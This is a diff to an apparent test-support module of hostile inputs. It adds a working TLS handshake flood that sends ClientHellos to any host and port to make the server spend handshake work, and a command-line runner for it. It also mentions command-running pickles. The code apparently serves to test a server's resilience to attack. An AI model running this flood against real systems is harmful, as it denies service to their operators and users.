@@ -1,10 +1,15 @@
-"""What an attacker holding a credential sends: pickles that run a command when loaded."""
+"""What attackers send: pickles that run a command when loaded, TLS hellos from strangers."""
 
 from __future__ import annotations
 
+import contextlib
 import os
 import pickle
 import shlex
+import socket
+import ssl
+import sys
+import time
 from dataclasses import dataclass
 from typing import Any
 
@@ -59,3 +64,48 @@ class Injector(Agent):
                 self.send_to(factory, Planted(note.marker))
         else:
             self.send_to(AgentId.server_of(self.id.server), note)
+
+
+def client_hello() -> bytes:
+    """The first flight of a TLS client (a ClientHello), made once and replayed by a flood.
+
+    Each copy makes the server run its expensive part (key exchange, signature) before it can
+    learn that the client has no certificate, at almost no cost to the sender.
+    """
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_side=False)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
+def tls_flood(host: str, port: int, seconds: float, connections: int = 8) -> int:
+    """Send ClientHellos to ``host:port`` for ``seconds``, ``connections`` at a time; each
+    connection waits for the server's answer (its handshake work done), then hangs up.
+    Returns how many handshakes the server answered."""
+    hello = client_hello()
+    answered = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        socks = []
+        for _ in range(connections):
+            with contextlib.suppress(OSError):
+                sock = socket.create_connection((host, port), timeout=2)
+                sock.sendall(hello)
+                socks.append(sock)
+        for sock in socks:
+            with contextlib.suppress(OSError):
+                if sock.recv(65536):
+                    answered += 1
+            sock.close()
+    return answered
+
+
+if __name__ == "__main__":
+    # python -m tests.support.hostile tls-flood HOST PORT SECONDS: prints the answered count.
+    _, what, host_arg, port_arg, seconds_arg = sys.argv
+    assert what == "tls-flood", what
+    print(tls_flood(host_arg, int(port_arg), float(seconds_arg)), flush=True)
